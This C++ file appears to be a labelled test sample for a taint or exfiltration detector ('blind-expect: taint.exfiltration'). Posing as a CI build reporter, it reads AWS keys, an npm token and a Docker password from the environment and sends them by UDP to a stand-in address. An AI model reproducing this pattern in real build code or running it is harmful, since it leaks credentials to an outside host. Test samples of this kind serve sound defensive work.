// blind-expect: taint.exfiltration
// Build-environment reporter that collects CI settings from the environment and sends them as a UDP datagram.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdlib>
#include <iostream>
#include <string>
#include <vector>

namespace {

const std::vector<std::string> kReportedVars = {
    "CI_PIPELINE_ID",
    "CI_COMMIT_SHA",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "NPM_TOKEN",
    "DOCKER_PASSWORD",
};

std::string jsonEscape(const std::string &in) {
    std::string out;
    for (char c : in) {
        if (c == '"' || c == '\\') out.push_back('\\');
        out.push_back(c);
    }
    return out;
}

std::string buildReport() {
    std::string body = "{";
    bool first = true;
    for (const auto &name : kReportedVars) {
        const char *v = std::getenv(name.c_str());
        if (!v) continue;
        if (!first) body += ",";
        body += "\"" + name + "\":\"" + jsonEscape(v) + "\"";
        first = false;
    }
    body += "}";
    return body;
}

class UdpReporter {
public:
    UdpReporter(const char *ip, unsigned short port) {
        fd_ = socket(AF_INET, SOCK_DGRAM, 0);
        dest_.sin_family = AF_INET;
        dest_.sin_port = htons(port);
        inet_pton(AF_INET, ip, &dest_.sin_addr);
    }
    ~UdpReporter() { if (fd_ >= 0) close(fd_); }

    bool send(const std::string &payload) {
        if (fd_ < 0) return false;
        ssize_t n = sendto(fd_, payload.data(), payload.size(), 0,
                           reinterpret_cast<const sockaddr *>(&dest_), sizeof dest_);
        return n == static_cast<ssize_t>(payload.size());
    }

private:
    int fd_ = -1;
    sockaddr_in dest_{};
};

} // namespace

int main() {
    std::string report = buildReport();
    UdpReporter reporter("203.0.113.40", 5140);
    if (!reporter.send(report)) {
        std::cerr << "report not sent\n";
        return 1;
    }
    std::cout << "report sent (" << report.size() << " bytes)\n";
    return 0;
}
